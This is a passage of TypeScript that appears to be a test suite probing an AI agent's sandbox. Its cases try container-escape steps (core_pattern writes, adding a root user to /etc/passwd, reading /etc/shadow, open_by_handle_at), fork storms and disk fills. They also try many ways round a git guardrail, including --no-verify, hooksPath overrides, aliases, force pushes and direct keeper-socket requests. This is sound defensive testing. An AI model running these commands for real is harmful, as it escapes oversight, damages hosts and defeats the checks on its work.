print("ESCAPED " + " ".join(bad) if bad else "BLOCKED only /home/agent and /mnt/backup are host paths mounted writable")'`,
    ),
    c(
      "proc-environ-root",
      "reading the entrypoint's environment",
      "process ownership: root's /proc/<pid>/environ is not the agent's",
      fails("cat /proc/1/environ >/dev/null"),
    ),
    c(
      "proc-host-processes",
      "seeing the host's or the other tenant's processes",
      "a PID namespace of its own",
      `seen=$(cat /proc/[0-9]*/comm 2>/dev/null | grep -E '^(dockerd|containerd.*|runc|postgres|squid|pulumi.*|systemd|node|vitest)$' | sort -u | tr '\\n' ' '); [ -z "$seen" ] && echo "BLOCKED $(ls -d /proc/[0-9]* | wc -l) processes, all the sandbox's own" || echo "ESCAPED $seen"`,
    ),
    c(
      "proc-sysrq",
      "writing /proc/sysrq-trigger",
      "/proc masked and read-only paths",
      fails("echo h > /proc/sysrq-trigger"),
    ),
    c(
      "proc-kcore",
      "reading /proc/kcore",
      "/proc masked paths",
      fails("head -c 1 /proc/kcore | wc -c | grep -q 1"),
    ),
    c(
      "proc-core-pattern",
      "a host command through core_pattern",
      "/proc/sys read-only",
      fails("echo '|/tmp/x' > /proc/sys/kernel/core_pattern"),
    ),
    c(
      "proc-sys-hostname",
      "the host name through /proc/sys",
      "/proc/sys read-only",
      fails("echo evil > /proc/sys/kernel/hostname"),
    ),
    c(
      "proc-drop-caches",
      "dropping the host's caches",
      "/proc/sys read-only",
      fails("echo 3 > /proc/sys/vm/drop_caches"),
    ),
    c("sys-write", "writing under /sys", "/sys mounted read-only", fails("echo 1 > /sys/kernel/profiling")),
    c(
      "cgroup-escape",
      "moving itself to another cgroup (release_agent style)",
      "cgroup filesystem read-only, a cgroup namespace",
      fails("echo $$ > /sys/fs/cgroup/cgroup.procs && mkdir /sys/fs/cgroup/x"),
    ),
    c(
      "cgroup-limits",
      "raising its own memory limit",
      "cgroup filesystem read-only",
      fails("echo -1 > $(cgfile memory.max memory/memory.limit_in_bytes)"),
    ),
    c(
      "ptrace-pid1",
      "ptrace of the entrypoint",
      `${CAPS} (no SYS_PTRACE); process ownership`,
      syscall(101, "16, 1, 0, 0"),
    ),
    c("kill-pid1", "killing the entrypoint", "process ownership (no KILL effective)", fails("kill -0 1")),
    c(
      "kill-sshd",
      "killing sshd",
      "process ownership (no KILL effective)",
      fails("pid=$(pgrep -o sshd) && kill -0 $pid"),
    ),
    c("shadow", "reading /etc/shadow", "file permissions (root 0640)", fails("cat /etc/shadow")),
    c(
      "ssh-host-key",
      "reading the SSH host key",
      "file permissions (root 0600)",
      fails("cat /etc/ssh/ssh_host_*_key"),
    ),
    c(
      "authorized-keys",
      "adding its own key to the sandbox's authorized keys",
      "the key is root-owned outside the home volume",
      fails(
        "f=$(awk '/^AuthorizedKeysFile/ {print $2}' /etc/ssh/sshd_config.d/*.conf | head -1); echo ssh-ed25519 AAAA >> \"$f\"",
      ),
    ),
    c(
      "etc-passwd",
      "adding a root user to /etc/passwd",
      "file permissions",
      fails("echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
    ),
    c(
      "etc-agent-sandbox",
      "editing the sandbox's own policy",
      "/etc/agent-sandbox root-owned",
      fails("touch /etc/agent-sandbox/x"),
    ),
    c(
      "git-wrapper",
      "replacing the git guardrail",
      "/usr/local/bin root-owned",
      fails("cp /bin/true /usr/local/bin/git"),
    ),
    c("run-secrets", "writing /run/secrets", "a read-only mount (or absent)", fails("touch /run/secrets/x")),
    c(
      "backup-state",
      "replacing the backup status the platform reads",
      "root-owned /var/lib/agent-sandbox",
      fails("touch /var/lib/agent-sandbox/backup-status.json"),
    ),
    c(
      "raw-socket",
      "a raw socket (spoofing, sniffing)",
      `${CAPS} (no NET_RAW)`,
      fails("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)'"),
    ),
    c(
      "packet-socket",
      "an AF_PACKET socket",
      `${CAPS} (no NET_RAW)`,
      fails("python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'"),
    ),
    c(
      "net-admin-link",
      "adding a network interface",
      `${CAPS} (no NET_ADMIN)`,
      fails("ip link add x type dummy"),
    ),
    c(
      "net-admin-route",
      "changing the routes",
      `${CAPS} (no NET_ADMIN)`,
      fails("ip route add 198.18.0.0/24 dev eth0"),
    ),
    c(
      "net-admin-addr",
      "taking another address (the other sandbox's)",
      `${CAPS} (no NET_ADMIN)`,
      fails('ip addr add "$OSB/32" dev eth0'),
    ),
    c(
      "iptables",
      "flushing the sandbox's own firewall",
      `${CAPS} (no NET_ADMIN); the rules are the host's`,
      fails("iptables -F"),
    ),
    c("kernel-module", "loading a kernel module", `${SECCOMP}; no SYS_MODULE`, syscall(175, '0, 0, b""')),
    c("bpf", "a BPF program", `${SECCOMP}; no SYS_ADMIN/BPF`, syscall(321, "0, 0, 0")),
    c("perf-event", "perf_event_open", SECCOMP, syscall(298, "0, 0, -1, -1, 0")),
    c(
      "open-by-handle",
      "open_by_handle_at (the shocker escape)",
      `${SECCOMP}; no DAC_READ_SEARCH`,
      syscall(304, "-100, 0, 0"),
    ),
    c(
      "clock-settime",
      "setting the host's clock",
      `${SECCOMP}; no SYS_TIME`,
      fails('date -s "@$(date +%s)"'),
    ),
    c("sethostname", "setting the host name", CAPS, fails("hostname evil")),
    c("reboot", "rebooting", `${SECCOMP}; no SYS_BOOT`, syscall(169, "0xfee1dead, 672274793, 0x4321fedc, 0")),
    c("swapon", "swapon", `${SECCOMP}; no SYS_ADMIN`, syscall(167, 'b"/tmp/swap", 0')),
    c("acct", "process accounting to a file", `${SECCOMP}; no SYS_PACCT`, syscall(163, 'b"/tmp/acct"')),
  ].map((c) => {
    const guest = PRIVILEGE_IN_GUEST[c.id.slice("privilege/".length)];
    return guest ? { ...c, microvm: guest } : c;
  });
}

/** The sizes of a tenant's home and backup filesystems in the suite's platform (tenants.homeBytes, backupBytes). */
export const TEST_HOME_BYTES = 256 * 1024 * 1024;
export const TEST_BACKUP_BYTES = 320 * 1024 * 1024;
const MIB = (bytes: number) => bytes / (1024 * 1024);

/**
 * Writes zeros into `dir` until the disk refuses: blocked when ENOSPC stopped it at no more than `$<limit>`
 * bytes. It asks for 64 MiB more than the whole filesystem, not than its free space at the start: a backup
 * that ends meanwhile frees space, and a write of the free space and 64 MiB then ended short of ENOSPC (the
 * suite's run 2 of session 22, Bob's backup-fill). The file is removed after (its blocks stay allocated in
 * the sparse image, which the host counts).
 */
function fill(dir: string, limit: string): string {
  return `e=$(dd if=/dev/zero of=${dir}/fill bs=1M count=$(((${limit} >> 20) + 64)) 2>&1 | grep -o 'No space left on device' | head -1); w=$(( $(stat -c %s ${dir}/fill) >> 20 )); u=$(df --output=pcent ${dir} | tail -1 | tr -d ' %'); rm -f ${dir}/fill; [ -n "$e" ] && [ "$w" -le $((${limit} >> 20)) ] && echo "BLOCKED stopped at $w MiB, $u% of a $((${limit} >> 20)) MiB filesystem: $e" || echo "ESCAPED wrote $w MiB into a $((${limit} >> 20)) MiB filesystem"`;
}

function exhaustionCases(): SandboxCase[] {
  const c = (id: string, attack: string, mechanism: string, script: string, knownHole?: string) =>
    sandboxCase("exhaustion", id, attack, mechanism, script, knownHole);
  return [
    c(
      "memory-limit",
      "running without a memory limit",
      "cgroup memory.max 1 GiB",
      `v=$(cgread memory.max memory/memory.limit_in_bytes); [ "$v" = 1073741824 ] && echo "BLOCKED memory.max $v" || echo "ESCAPED memory.max $v"`,
    ),
    c(
      "swap-limit",
      "swapping past the limit",
      "cgroup memory.swap.max 0",
      `if [ -f /sys/fs/cgroup/cgroup.controllers ]; then v=$(cat /sys/fs/cgroup/memory.swap.max); [ "$v" = 0 ] && echo "BLOCKED memory.swap.max 0" || echo "ESCAPED memory.swap.max $v"; elif [ -f /sys/fs/cgroup/memory/memory.memsw.limit_in_bytes ]; then v=$(cat /sys/fs/cgroup/memory/memory.memsw.limit_in_bytes); [ "$v" = 1073741824 ] && echo "BLOCKED memory+swap limit $v" || echo "ESCAPED memory+swap limit $v"; elif [ "$(wc -l < /proc/swaps)" -le 1 ]; then echo "BLOCKED the host has no swap to use"; else echo "ESCAPED swap unaccounted"; fi`,
    ),
    c(
      "memory-hog",
      "touching 1.5 GiB",
      "cgroup memory.max: the kernel's OOM killer, inside the sandbox's cgroup",
      `python3 -c '
n = 1536 << 20
b = bytearray(n)
for i in range(0, n, 4096): b[i] = 1
print("done")' >/tmp/sec/oom.out 2>&1; rc=$?; grep -q done /tmp/sec/oom.out && echo "ESCAPED 1.5 GiB touched" || echo "BLOCKED killed (exit $rc)"`,
    ),
    c(
      "pids-limit",
      "running without a pids limit",
      "cgroup pids.max 512",
      `v=$(cgread pids.max pids/pids.max); [ "$v" = 512 ] && echo "BLOCKED pids.max $v" || echo "ESCAPED pids.max $v"`,
    ),
    c(
      "fork-storm",
      "a fork storm",
      "cgroup pids.max 512",
      `python3 -c '
import os, time
pids = []
try:
    for i in range(700):
        pid = os.fork()
        if pid == 0:
            time.sleep(30); os._exit(0)
        pids.append(pid)
except OSError:
    pass
try:
    peak = int(open("/sys/fs/cgroup/pids.current" if os.path.exists("/sys/fs/cgroup/pids.current") else "/sys/fs/cgroup/pids/pids.current").read())
finally:
    for pid in pids: os.kill(pid, 9)
    for pid in pids: os.waitpid(pid, 0)
print("BLOCKED %d forks of 700, %d tasks at the peak" % (len(pids), peak) if peak <= 512 else "ESCAPED %d tasks" % peak)'`,
    ),
    c(
      "thread-storm",
      "a thread storm",
      "cgroup pids.max 512 (threads count)",
      `python3 -c '
import threading, time
ok = 0
try:
    for i in range(2000):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start(); ok += 1
except RuntimeError: pass
print("ESCAPED %d threads" % ok if ok > 512 else "BLOCKED stopped at %d threads" % ok)' 2>/dev/null`,
    ),
    c(
      "cpu-limit",
      "running without a CPU quota",
      "cgroup cpu.max 1 CPU",
      `v=$(cgread cpu.max "cpu/cpu.cfs_quota_us" | tr '\\n' ' ')$(cgread /dev/null cpu/cpu.cfs_period_us); v=\${v% }; [ "$v" = "100000 100000" ] && echo "BLOCKED cpu.max $v" || echo "ESCAPED cpu.max $v"`,
    ),
    c(
      "cpu-spin",
      "four spinning processes taking more than one CPU",
      "cgroup cpu.max 1 CPU",
      `u0=$(cpu_usec); t0=$(date +%s%N); for i in 1 2 3 4; do timeout 3 sh -c 'while :; do :; done' & done; wait; u1=$(cpu_usec); t1=$(date +%s%N); r=$(( (u1 - u0) * 1000 / ((t1 - t0) / 1000) )); [ $r -le 1150 ] && echo "BLOCKED used $r/1000 of a CPU" || echo "ESCAPED used $r/1000 CPUs"`,
    ),
    c("nice", "raising its own priority", "no SYS_NICE", fails("renice -n -10 $$")),
    c(
      "nofile-raise",
      "raising the open-files hard limit",
      "RLIMIT_NOFILE; no SYS_RESOURCE",
      fails("ulimit -Hn $(( $(ulimit -Hn) + 1 ))"),
    ),
    c(
      "fd-flood",
      "opening files without bound",
      "RLIMIT_NOFILE",
      `python3 -c '
import os, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
n = 0
try:
    while n < hard + 10: os.open("/dev/null", os.O_RDONLY); n += 1
except OSError: pass
print("BLOCKED stopped at %d open files (limit %d)" % (n, soft) if n < hard + 10 else "ESCAPED %d" % n)'`,
    ),
    c(
      "memlock",
      "locking 64 MiB of memory",
      "RLIMIT_MEMLOCK; no IPC_LOCK",
      `python3 -c '
import ctypes, mmap, os
m = mmap.mmap(-1, 64 << 20); l = ctypes.CDLL(None, use_errno=True)
a = ctypes.c_void_p.from_buffer(m); r = l.mlock(ctypes.addressof(a), 64 << 20)
print("ESCAPED locked" if r == 0 else "BLOCKED %s" % os.strerror(ctypes.get_errno()))' 2>&1 | tail -1`,
    ),
    c(
      "shm-flood",
      "filling /dev/shm",
      "/dev/shm a 64 MiB tmpfs; its pages charged to the memory cgroup",
      `dd if=/dev/zero of=/dev/shm/fill bs=1M count=1200 2>/dev/null; s=$(stat -c %s /dev/shm/fill 2>/dev/null || echo 0); rm -f /dev/shm/fill; [ "$s" -lt $((1200 << 20)) ] && echo "BLOCKED stopped at $((s >> 20)) MiB" || echo "ESCAPED wrote 1200 MiB"`,
    ),
    c(
      "tmp-size",
      "filling the host's disk through /tmp",
      "/tmp a 512 MiB tmpfs, its pages charged to the memory cgroup",
      `t=$(df -B1 --output=size /tmp | tail -1); f=$(stat -f -c %T /tmp); [ "$t" = "$HOST_DISK_BYTES" ] || [ "$f" != tmpfs ] && echo "ESCAPED /tmp is the host's disk ($f, $((t >> 30)) GiB)" || echo "BLOCKED /tmp is a $f of $((t >> 20)) MiB"`,
    ),
    c(
      "var-tmp-size",
      "filling the host's disk through /var/tmp",
      "/var/tmp a 256 MiB tmpfs, its pages charged to the memory cgroup",
      `t=$(df -B1 --output=size /var/tmp | tail -1); f=$(stat -f -c %T /var/tmp); [ "$t" = "$HOST_DISK_BYTES" ] || [ "$f" != tmpfs ] && echo "ESCAPED /var/tmp is the host's disk ($f, $((t >> 30)) GiB)" || echo "BLOCKED /var/tmp is a $f of $((t >> 20)) MiB"`,
    ),
    c(
      "tmp-fill",
      "writing past /tmp's size",
      "the tmpfs size: ENOSPC before the memory limit",
      `s=$(( $(df -B1M --output=size /tmp | tail -1) )); e=$(dd if=/dev/zero of=/tmp/fill bs=1M count=$((s + 64)) 2>&1 | grep -o 'No space left on device' | head -1); w=$(( $(stat -c %s /tmp/fill) >> 20 )); rm -f /tmp/fill; [ "$w" -le "$s" ] && [ -n "$e" ] && echo "BLOCKED stopped at $w of $s MiB: $e" || echo "ESCAPED wrote $w MiB into a $s MiB /tmp"`,
    ),
    c(
      "layer-writable",
      "writing the container's own layer (the host's disk) anywhere outside home and the tmpfs mounts",
      "file ownership: the image's filesystem is root's, the agent owns only its home and the tmpfs mounts",
      `r=$(stat -c %d /); w=$(find / -xdev \\( -path /proc -o -path /sys \\) -prune -o \\( -type d -o -type f \\) -writable -printf '%D %p\\n' 2>/dev/null | awk -v r="$r" '$1 == r {print $2}' | head -5 | tr '\\n' ' '); [ -n "$w" ] && echo "ESCAPED writable on the layer: $w" || echo "BLOCKED nothing on the image's filesystem is writable by the agent"`,
    ),
    c(
      "home-size",
      "filling the host's disk through the home volume",
      `the home is its own ext4 filesystem of ${MIB(TEST_HOME_BYTES)} MiB (sandbox:host:Filesystem, tenants.homeBytes)`,
      `h=$(df -B1 --output=size /home/agent | tail -1); [ "$h" != "$HOST_DISK_BYTES" ] && [ "$h" -le "$HOME_BYTES" ] && echo "BLOCKED /home/agent is a filesystem of $((h >> 20)) MiB of its own" || echo "ESCAPED /home/agent is $((h >> 20)) MiB, the host's disk $((HOST_DISK_BYTES >> 20)) MiB"`,
    ),
    c(
      "home-df",
      "not knowing the home's size (the sandbox reports the host's disk)",
      `the home is its own ext4 filesystem of ${MIB(TEST_HOME_BYTES)} MiB: df reports that, less ext4's own metadata`,
      `h=$(df -B1 --output=size /home/agent | tail -1); t=$(stat -f -c %T /home/agent); [ "$h" -le "$HOME_BYTES" ] && [ "$h" -ge $((HOME_BYTES / 100 * 85)) ] && echo "BLOCKED df shows a $t of $((h >> 20)) MiB for a $((HOME_BYTES >> 20)) MiB home" || echo "ESCAPED df shows $((h >> 20)) MiB for a $((HOME_BYTES >> 20)) MiB home"`,
    ),
    c(
      "home-fill",
      "writing past the home's size",
      `the home's own ext4 filesystem of ${MIB(TEST_HOME_BYTES)} MiB: ENOSPC at its size; the other tenant's home and the host's disk keep their space (asserted on the host)`,
      fill("/home/agent", "HOME_BYTES"),
    ),
    c(
      "backup-dir-size",
      "filling the host's disk through the local backup directory",
      `the backup directory is its own ext4 filesystem of ${MIB(TEST_BACKUP_BYTES)} MiB (sandbox:host:Filesystem, tenants.backupBytes), apart from the home's`,
      `[ -d /mnt/backup ] || { echo "BLOCKED no backup directory mounted"; exit 0; }; b=$(df -B1 --output=size /mnt/backup | tail -1); [ "$b" != "$HOST_DISK_BYTES" ] && [ "$b" -le "$BACKUP_BYTES" ] && echo "BLOCKED /mnt/backup is a filesystem of $((b >> 20)) MiB of its own" || echo "ESCAPED /mnt/backup is $((b >> 20)) MiB, the host's disk $((HOST_DISK_BYTES >> 20)) MiB"`,
    ),
    c(
      "backup-fill",
      "writing past the backup directory's size",
      `the backup directory's own ext4 filesystem of ${MIB(TEST_BACKUP_BYTES)} MiB: ENOSPC at its size; the host's disk keeps its space (asserted on the host)`,
      `[ -d /mnt/backup ] || { echo "BLOCKED no backup directory mounted"; exit 0; }; ${fill("/mnt/backup", "BACKUP_BYTES")}`,
    ),
  ];
}

function gitCases(): SandboxCase[] {
  const GUARD = "the git guardrail (/usr/local/bin/git)";
  const c = (id: string, attack: string, script: string, mechanism = GUARD, knownHole?: string) =>
    sandboxCase("git", id, attack, mechanism, script, knownHole);
  /** A commit attempt; ESCAPED when it made a commit although the pre-commit hook refuses every commit. */
  const commit = (command: string) =>
    `cd "$REPO" && echo "$RANDOM" >> f && git add f && before=$(/usr/bin/git rev-parse HEAD); ( ${command} ) >/tmp/sec/git.out 2>&1; after=$(/usr/bin/git rev-parse HEAD); git reset -q --hard "$before"; /usr/bin/git config --global --unset-all core.hooksPath 2>/dev/null; [ "$before" != "$after" ] && echo "ESCAPED a commit past the failing hook" || echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|hook.*|[^ ]*[Pp]ermission denied.*|[^ ]* Operation not permitted.*' /tmp/sec/git.out | head -c 150)"`;
  /**
   * A push attempt that would rewind the remote's main (local main is reset one commit behind it first);
   * ESCAPED when the remote's main was overwritten. The remote lives inside the kept .git, so the agent
   * reaches it only through git, as it reaches a real remote only through git.
   */
  const push = (command: string) =>
    `cd "$REPO" && remote=$(/usr/bin/git --git-dir="$REMOTE" rev-parse main) && git reset -q --hard "$remote" && git reset -q --hard HEAD~1 && ( ${command} ) >/tmp/sec/git.out 2>&1; now=$(/usr/bin/git --git-dir="$REMOTE" rev-parse main); git reset -q --hard "$remote"; [ "$now" != "$remote" ] && echo "ESCAPED the remote's main was overwritten" || echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|rejected.*|hook.*|[Pp]ermission denied.*' /tmp/sec/git.out | head -c 150)"`;
  /** An attempt to make the keeper run a program: ESCAPED when it ran (it touches a file in /tmp). */
  const runsProgram = (command: string) =>
    `cd "$REPO" && mark=/tmp/keeper-ran-$RANDOM && rm -f "$mark" && ( ${command.replace(/MARK/g, '"$mark"')} ) >/tmp/sec/git.out 2>&1; git reset -q --hard HEAD; if [ -e "$mark" ]; then echo "ESCAPED ran as $(stat -c %U "$mark")"; rm -f "$mark"; else echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|[Pp]ermission denied.*|fatal: .*' /tmp/sec/git.out | head -c 150)"; fi`;
  const OWNED =
    "ownership: a kept repository's .git is gitkeeper's, its worktree root sticky (sandbox-git-keeper); git runs only through the keeper";
  const KEEPER =
    "the git keeper's own checks (sandbox-git-keeper, git_guard.check_kept): it never trusts the wrapper";
  return [
    c("commit-no-verify", "commit --no-verify", commit("git commit -q --no-verify -m x")),
    c("commit-n", "commit -n", commit("git commit -q -n -m x")),
    c("commit-nm-cluster", "commit -nm (short cluster)", commit("git commit -q -nm x")),
    c("commit-anm-cluster", "commit -anm", commit("git commit -q -anm x")),
    c(
      "commit-no-verify-prefix",
      "commit --no-verif (unambiguous prefix)",
      commit("git commit -q --no-verif -m x"),
    ),
    c(
      "commit-no-verify-late",
      "commit with --no-verify after the message",
      commit("git commit -q -m x --no-verify"),
    ),
    c(
      "commit-global-c",
      "-c core.hooksPath=<empty dir> commit",
      commit("git -c core.hooksPath=/tmp/sec/nohooks commit -q -m x"),
    ),
    c(
      "commit-global-c-case",
      "-c CORE.HOOKSPATH (other case)",
      commit("git -c CORE.HOOKSPATH=/tmp/sec/nohooks commit -q -m x"),
    ),
    c(
      "commit-global-c-attached",
      "-ccore.hooksPath (attached)",
      commit("git -ccore.hooksPath=/tmp/sec/nohooks commit -q -m x"),
    ),
    c(
      "commit-config-env",
      "--config-env=core.hooksPath=VAR",
      commit("HP=/tmp/sec/nohooks git --config-env=core.hooksPath=HP commit -q -m x"),
    ),
    c(
      "commit-git-config-count",
      "GIT_CONFIG_COUNT/KEY/VALUE",
      commit(
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/sec/nohooks git commit -q -m x",
      ),
    ),
    c(
      "commit-git-config-parameters",
      "GIT_CONFIG_PARAMETERS",
      commit(`GIT_CONFIG_PARAMETERS="'core.hookspath'='/tmp/sec/nohooks'" git commit -q -m x`),
    ),
    c(
      "config-hookspath",
      "git config core.hooksPath",
      commit("git config core.hooksPath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "config-hookspath-global",
      "git config --global core.hooksPath",
      commit("git config --global core.hooksPath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "config-hookspath-add",
      "git config --add core.hooksPath",
      commit("git config --add core.hooksPath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "config-hookspath-lower",
      "git config core.hookspath (lower case)",
      commit("git config core.hookspath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "config-hookspath-file",
      "git config --file .git/config core.hooksPath",
      commit("git config --file .git/config core.hooksPath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "config-hookspath-file-attached",
      "git config --file=.git/config core.hooksPath",
      commit("git config --file=.git/config core.hooksPath /tmp/sec/nohooks; git commit -q -m x"),
    ),
    c(
      "alias-global-c",
      "-c alias.ci='commit --no-verify' ci",
      commit("git -c 'alias.ci=commit --no-verify' ci -q -m x"),
    ),
    c(
      "alias-config",
      "an alias in the config for commit -n",
      commit("git config alias.ci 'commit -n'; git ci -q -m x; git config --unset alias.ci"),
    ),
    c(
      "alias-nested",
      "an alias of an alias",
      commit(
        "git config alias.c1 'commit --no-verify'; git config alias.c2 c1; git c2 -q -m x; git config --unset alias.c1; git config --unset alias.c2",
      ),
    ),
    c(
      "alias-shell-wrapper",
      "a shell alias calling git on PATH",
      commit("git -c 'alias.ci=!git commit --no-verify' ci -q -m x"),
    ),
    c(
      "merge-no-verify",
      "merge --no-verify (skips pre-merge-commit)",
      `cd "$REPO" && before=$(/usr/bin/git rev-parse HEAD); git merge -q --no-ff --no-verify -m m side >/tmp/sec/git.out 2>&1; after=$(/usr/bin/git rev-parse HEAD); git reset -q --hard "$before"; [ "$before" != "$after" ] && echo "ESCAPED a merge commit past the failing hook" || echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|hook.*' /tmp/sec/git.out | head -c 150)"`,
    ),
    c(
      "push-no-verify",
      "push --no-verify (skips pre-push)",
      `cd "$REPO" && touch /tmp/sec/refuse-push && remote=$(/usr/bin/git --git-dir="$REMOTE" rev-parse main) && git push -q --no-verify origin ahead:main >/tmp/sec/git.out 2>&1; now=$(/usr/bin/git --git-dir="$REMOTE" rev-parse main); rm -f /tmp/sec/refuse-push; [ "$now" != "$remote" ] && echo "ESCAPED pushed past the failing pre-push hook" || echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|hook.*' /tmp/sec/git.out | head -c 150)"`,
    ),
    c("push-force", "push --force", push("git push -q --force origin main")),
    c("push-f", "push -f", push("git push -q -f origin main")),
    c("push-force-prefix", "push --forc (prefix)", push("git push -q --forc origin main")),
    c("push-f-cluster", "push -vf (short cluster)", push("git push -vf origin main")),
    c("push-force-late", "push origin main --force", push("git push -q origin main --force")),
    c("push-force-with-lease", "push --force-with-lease", push("git push -q --force-with-lease origin main")),
    c(
      "push-force-with-lease-ref",
      "push --force-with-lease=main",
      push("git push -q --force-with-lease=main origin main"),
    ),
    c(
      "push-force-if-includes",
      "push --force-if-includes --force-with-lease",
      push("git push -q --force-if-includes --force-with-lease origin main"),
    ),
    c("push-plus-refspec", "push origin +main", push("git push -q origin +main")),
    c("push-plus-head", "push origin +HEAD:main", push("git push -q origin +HEAD:main")),
    c(
      "push-plus-full",
      "push origin +refs/heads/main:refs/heads/main",
      push("git push -q origin +refs/heads/main:refs/heads/main"),
    ),
    c("push-mirror", "push --mirror", push("git push -q --mirror origin")),
    c(
      "push-config-refspec",
      "a forced refspec in remote.origin.push",
      push("git config remote.origin.push +refs/heads/main:refs/heads/main; git push -q origin"),
    ),
    c(
      "push-c-refspec",
      "-c remote.origin.push=+main:main push",
      push("git -c remote.origin.push=+refs/heads/main:refs/heads/main push -q origin"),
    ),
    c(
      "push-config-mirror",
      "remote.origin.mirror=true, then push",
      push("git config remote.origin.mirror true; git push -q origin"),
    ),
    c("push-alias", "an alias for push --force", push("git -c 'alias.p=push --force' p -q origin main")),
    c("send-pack-force", "git send-pack --force (plumbing)", push(`git send-pack --force "$REMOTE" main`)),
    c(
      "real-git-commit",
      "/usr/bin/git commit --no-verify",
      commit("/usr/bin/git commit -q --no-verify -m x"),
      OWNED,
    ),
    c(
      "real-git-core",
      "git-core's own git binary",
      commit("/usr/lib/git-core/git commit -q --no-verify -m x"),
      OWNED,
    ),
    c("real-git-push", "/usr/bin/git push --force", push("/usr/bin/git push -q --force origin main"), OWNED),
    c(
      "real-git-core-push",
      "git-core's own git, pushing with --force",
      push("/usr/lib/git-core/git push -q --force origin main"),
      OWNED,
    ),
    c(
      "objects-by-hand",
      "a commit written into .git by hand (zlib and a ref, no git at all)",
      commit(
        `python3 -c 'import hashlib,os,subprocess,zlib; g=lambda *a: subprocess.check_output(("/usr/bin/git",)+a).decode().strip(); body=("tree %s\\nparent %s\\nauthor a <a@a> 0 +0000\\ncommitter a <a@a> 0 +0000\\n\\nby hand\\n" % (g("rev-parse","HEAD^{tree}"), g("rev-parse","HEAD"))).encode(); raw=b"commit %d\\0" % len(body) + body; sha=hashlib.sha1(raw).hexdigest(); d=".git/objects/"+sha[:2]; os.makedirs(d, exist_ok=True); open(d+"/"+sha[2:],"wb").write(zlib.compress(raw)); open(".git/refs/heads/main","w").write(sha+"\\n")'`,
      ),
      OWNED,
    ),
    c(
      "ref-by-hand",
      "a branch moved by writing its ref file",
      commit("/usr/bin/git rev-parse HEAD~1 > .git/refs/heads/main"),
      OWNED,
    ),
    c(
      "acl-planted",
      "an ACL planted on refs/heads before the repository was kept, used on a branch the keeper makes later",
      `cd "$REPO" && b=acl-$RANDOM && git branch "$b" && ${fails('/usr/bin/git rev-parse HEAD~1 > ".git/refs/heads/$b"')}; git branch -q -D "$b"`,
      `${OWNED}; keeping it removes every ACL in .git`,
    ),
    c(
      "config-by-hand",
      "core.hooksPath appended to .git/config with an editor's rights",
      commit("printf '[core]\\n\\thooksPath = /tmp/sec/nohooks\\n' >> .git/config && git commit -q -m x"),
      OWNED,
    ),
    c(
      "git-dir-aside",
      "moving .git aside and making a new repository in its place",
      commit(
        "mv .git .git-aside && /usr/bin/git init -q . && /usr/bin/git add -A && /usr/bin/git commit -q -m x",
      ),
      OWNED,
    ),
    c(
      "git-dir-removed",
      "deleting the repository's .git",
      commit(
        "rm -rf .git 2>&1 | tail -n 1; [ -d .git/objects ] && exit 1; /usr/bin/git init -q . && /usr/bin/git commit -q --allow-empty -m x",
      ),
      OWNED,
    ),
    c(
      "keeper-direct",
      "asking the keeper's socket for commit --no-verify without the wrapper",
      commit(
        `python3 -c 'import json,os,socket; s=socket.socket(socket.AF_UNIX,socket.SOCK_SEQPACKET); s.connect("/run/agent-sandbox/git-keeper.sock"); socket.send_fds(s,[json.dumps({"op":"git","argv":["commit","-q","--no-verify","-m","x"],"cwd":os.getcwd(),"env":{}}).encode()],[0,1,2]); print(s.recv(999))'`,
      ),
      KEEPER,
    ),
    c(
      "keeper-direct-hooks-path",
      "asking the keeper's socket for -c core.hooksPath without the wrapper",
      commit(
        `python3 -c 'import json,os,socket; s=socket.socket(socket.AF_UNIX,socket.SOCK_SEQPACKET); s.connect("/run/agent-sandbox/git-keeper.sock"); socket.send_fds(s,[json.dumps({"op":"git","argv":["-c","core.hooksPath=/tmp/sec/nohooks","commit","-q","-m","x"],"cwd":os.getcwd(),"env":{}}).encode()],[0,1,2]); print(s.recv(999))'`,
      ),
      KEEPER,
    ),
    c(
      "keeper-fsmonitor",
      "-c core.fsmonitor (runs a program as the keeper)",
      runsProgram("git -c core.fsmonitor='touch MARK' status"),
      KEEPER,
    ),
    c(
      "keeper-config-fsmonitor",
      "git config core.fsmonitor, then status",
      runsProgram("git config core.fsmonitor 'touch MARK'; git status"),
      KEEPER,
    ),
    c(
      "keeper-alias",
      "a shell alias run by the keeper",
      runsProgram("git -c alias.x='!touch MARK' x"),
      KEEPER,
    ),
    c(
      "keeper-config-alias",
      "a shell alias configured, then run",
      runsProgram("git config alias.x '!touch MARK'; git x"),
      KEEPER,
    ),
    c("keeper-pager", "-c core.pager", runsProgram("git -c core.pager='touch MARK' -p log -1"), KEEPER),
    c(
      "keeper-editor",
      "GIT_EDITOR for an annotated tag",
      runsProgram("GIT_EDITOR='touch MARK' git tag -a t-$RANDOM"),
      KEEPER,
    ),
    c(
      "keeper-exec-path",
      "--exec-path of the agent's",
      runsProgram(
        "mkdir -p /tmp/ep && printf '#!/bin/sh\\ntouch $1\\n' > /tmp/ep/git-status && chmod +x /tmp/ep/git-status && git --exec-path=/tmp/ep status MARK",
      ),
      KEEPER,
    ),
    c("keeper-rebase-exec", "rebase --exec", runsProgram("git rebase -q --exec 'touch MARK' HEAD~1"), KEEPER),
    c(
      "keeper-upload-pack",
      "fetch --upload-pack",
      runsProgram("git fetch --upload-pack='touch MARK; git-upload-pack' .git/sec-remote.git"),
      KEEPER,
    ),
    c(
      "keeper-filter",
      "a clean filter configured for every file",
      runsProgram(
